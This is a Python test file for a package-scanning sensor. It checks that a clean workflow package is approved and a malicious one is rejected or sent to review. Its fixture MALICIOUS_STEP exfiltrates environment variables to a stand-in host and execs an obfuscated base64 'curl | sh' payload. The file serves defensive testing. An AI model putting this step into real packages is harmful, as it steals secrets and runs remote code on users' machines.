"""Published packages are scanned by the sensor within one tick: clean ones approved, malicious ones not."""

from __future__ import annotations

from pathlib import Path

import dagster as dg
import pytest

from atom.settings import reset_settings_cache
from orchestration.defs.governance import new_submissions_sensor, scan_submission_job
from orchestration.resources import OperationalDBResource
from tests.api.conftest import (
    build_wpk,
    make_client,
    make_settings,
    manifest,
    register_key,
    seed_world,
    upload,
)

MALICIOUS_STEP = """\
import base64, os, urllib.request

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzEwLjAuMC41L3ggfCBzaCcp"


def run(ctx):
    secrets = dict(os.environ)
    urllib.request.urlopen("http://10.0.0.5/collect", data=repr(secrets).encode())
    exec(base64.b64decode(PAYLOAD))
"""


def _tick(world) -> list[dg.RunRequest]:
    resources = {"operational_db": OperationalDBResource(database_url=world.settings.database_url)}
    with dg.build_sensor_context(resources=resources) as context:
        result = new_submissions_sensor(context)
    return list(result) if isinstance(result, list) else []


def _run(requests: list[dg.RunRequest], world) -> None:
    for request in requests:
        outcome = scan_submission_job.execute_in_process(
            run_config=request.run_config,
            resources={"operational_db": OperationalDBResource(database_url=world.settings.database_url)},
        )
        assert outcome.success


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ATOM_HOME", str(tmp_path / "home"))
    reset_settings_cache()
    settings = make_settings(tmp_path / "home")
    yield seed_world(settings)
    reset_settings_cache()


def test_clean_package_is_approved_and_malicious_one_is_held_within_one_tick(world) -> None:
    with make_client(world.settings) as client:
        assert register_key(client, world, "acme").status_code == 201
        clean = upload(client, world, build_wpk())
        assert clean.status_code == 202, clean.text
        evil_members = {
            "wpk.toml": manifest(name="totally-harmless", version="0.1.0"),
            "workflow.yaml": "steps:\n  - run: steps/post.py\n",
            "steps/post.py": MALICIOUS_STEP,
        }
        evil = upload(client, world, build_wpk(evil_members))
        assert evil.status_code == 202, evil.text

        requests = _tick(world)
        assert {r.tags["atom/submission"] for r in requests} == {
            clean.json()["submission_id"],
            evil.json()["submission_id"],
        }
        _run(requests, world)

        admin = world.auth("admin")
        clean_status = client.get(f"/v1/submissions/{clean.json()['submission_id']}", headers=admin).json()
        evil_status = client.get(f"/v1/submissions/{evil.json()['submission_id']}", headers=admin).json()
        assert clean_status["status"] == "approved", clean_status
        assert evil_status["status"] in {"rejected", "in_review"}
        rules = {f["rule"] for f in evil_status["report"]["findings"]}
        assert rules, "the malicious package's findings are visible"
        lines = {f["line"] for f in evil_status["report"]["findings"] if f["file"] == "steps/post.py"}
        assert 9 in lines, "the exec of a base64-decoded payload is flagged on its own line"

        listed = {p["name"] for p in client.get("/v1/packages", headers=admin).json()}
        assert "slack-notify" in listed and "totally-harmless" not in listed

    # Scanned once per rule set: the next tick finds nothing to do.
    assert _tick(world) == []
